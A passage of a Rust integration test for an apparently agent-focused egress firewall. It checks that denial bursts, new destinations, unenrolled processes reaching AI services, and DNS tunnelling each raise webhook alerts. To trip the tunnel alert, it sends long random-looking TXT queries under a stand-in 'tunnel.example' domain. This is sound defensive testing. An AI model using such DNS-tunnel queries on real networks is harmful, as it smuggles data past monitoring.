            "--identity",
            "spiffe://example.org/agent/watcher",
        ])
        .arg("--audit-log")
        .arg(&audit)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("mode: enforce\ndns:\n  resolve: [other.example.org]\negress:\n"),
        "{text}"
    );
}

/// Every kind of alert, raised by what a scripted agent and an unenrolled process do on a
/// real node, reaches the webhook a test receiver runs: the node, its control plane and the
/// receiver all in the lab's namespace.
#[test]
fn what_an_agent_does_on_a_real_node_raises_each_alert_kind_at_a_webhook() {
    use agentwall_tests::cp::{CpFixture, CpProc, NODE_ID, WebhookReceiver, admin_creds, cp_in};
    let zone = serde_json::json!({ "records": [
        a("api.example.com", "203.0.113.10"),
        a("api.openai.com", "203.0.113.80"),
    ]});
    let policy = "\
kind: AgentPolicy
name: dns
identity: spiffe://example.org/agent/dns
egress:
  - to: [203.0.113.0/25, api.example.com]
    ports: [443]
    protocol: tcp
";
    let mut lab = Lab::new(
        "alerts-e2e",
        policy,
        &zone,
        &[
            "--aggregate-window-secs",
            "1",
            "--catalog-refresh-secs",
            "300",
        ],
    );
    let cp_dir = tempfile::tempdir().unwrap();
    let fx = CpFixture::new(cp_dir.path());
    let hook = lab.ns.run_in(|| WebhookReceiver::start(0));
    fx.configure(
        "",
        &format!(
            "[alerts]\nlearning_hours = 0\ndenials = 3\ndenial_window_secs = 60\ndns_refusals = 3\ndns_window_secs = 60\nwebhooks = [\"http://{}/hook\"]\n",
            hook.addr
        ),
    );
    let server = CpProc::start_in(&fx, None, "cp", &[], Some(&lab.ns));
    lab.flags.extend(fx.node_flags(&server.url));
    let node = lab.node();
    let pushed = lab.dir().join("pushed");
    std::fs::create_dir_all(&pushed).unwrap();
    std::fs::write(pushed.join("agents.yaml"), policy).unwrap();
    let admin = admin_creds(&fx);
    let admin: Vec<&str> = admin.iter().map(String::as_str).collect();
    let out = cp_in(
        Some(&lab.ns),
        &fx,
        &server.url,
        &admin,
        &["policy", "push", pushed.to_str().unwrap()],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    wait_status(&node.socket, "the pushed policy applied", |s| {
        s["control_plane"]["applied_version"] == 1
    });
    wait_status(&node.socket, "catalog addresses", |s| {
        s["catalog"]["addresses"].as_u64() >= Some(1)
    });

    let mut p = lab.agent(&node);
    // A destination the identity never reached: with no learning period, an alert.
    assert_eq!(connect(&mut p, "203.0.113.10", 443), "ok");
    // A burst of denials.
    for port in [444, 445, 446] {
        assert_eq!(connect(&mut p, "198.51.100.10", port), "err EPERM");
    }
    // Refused queries for long, random-looking names: what a DNS tunnel sends.
    for chunk in [
        "q8z3xk1m9v7b2n5c4x6z0l8k3j7h1g5f9d2s6a4p0o8i3",
        "w2e4r6t8y0u1i3o5p7a9s2d4f6g8h0j1k3l5z7x9c2v4b",
    ] {
        let answer = resolve(&mut p, &format!("{chunk}.tunnel.example"), "udp", "TXT");
        assert_eq!(answer, "rcode Refused", "{chunk}");
    }
    assert_eq!(
        resolve(&mut p, "a3f9.tunnel.example", "udp", "TXT"),
        "rcode Refused"
    );
    // An unenrolled process reaching an AI service.
    let rogue = lab.env.cgroup("rogue");
    let mut c = Command::new(bin_path("aw-probe"));
    c.args(["--cgroup", rogue.path().to_str().unwrap()]);
    lab.ns.enter(&mut c);
    let mut r = Probe::from_command(c);
    let said = connect(&mut r, "203.0.113.80", 443);
    assert!(said == "ok" || said == "err ECONNREFUSED", "{said}");

    // The webhook gets each kind, from the node, about the agent (shadow AI: about the node).
    let mut kinds: std::collections::BTreeMap<String, serde_json::Value> = Default::default();
    let deadline = agentwall_tests::deadline(Duration::from_secs(60));
    while kinds.len() < 4 {
        let left = deadline.saturating_duration_since(Instant::now());
        let body = hook.bodies.recv_timeout(left).unwrap_or_else(|_| {
            panic!(
                "alerts by kind so far: {:?}\n{}",
                kinds.keys().collect::<Vec<_>>(),
                std::fs::read_to_string(&server.log).unwrap_or_default()
            )
        });
        assert_eq!(body["version"], "4", "{body}");
        for a in body["alerts"].as_array().unwrap() {
            let name = a["labels"]["alertname"].as_str().unwrap().to_owned();
            kinds.entry(name).or_insert_with(|| a.clone());
        }
    }
    assert_eq!(
        kinds.keys().map(String::as_str).collect::<Vec<_>>(),
        [
            "agentwall_denial_burst",
            "agentwall_dns_tunnel",
            "agentwall_new_destination",
            "agentwall_new_shadow_ai"
        ]
    );
    for (kind, a) in &kinds {
        assert_eq!(a["labels"]["node"], NODE_ID, "{kind}: {a}");
        if kind != "agentwall_new_shadow_ai" {
            assert_eq!(a["labels"]["identity"], ID, "{kind}: {a}");
        }
    }
    assert!(
        kinds["agentwall_new_destination"]["annotations"]["summary"]
            .as_str()
            .unwrap()
            .contains("203.0.113.10"),
        "{}",
        kinds["agentwall_new_destination"]
    );
    assert!(
        kinds["agentwall_new_shadow_ai"]["annotations"]["summary"]
            .as_str()
            .unwrap()
            .contains("OpenAI"),
        "{}",
        kinds["agentwall_new_shadow_ai"]
    );
}
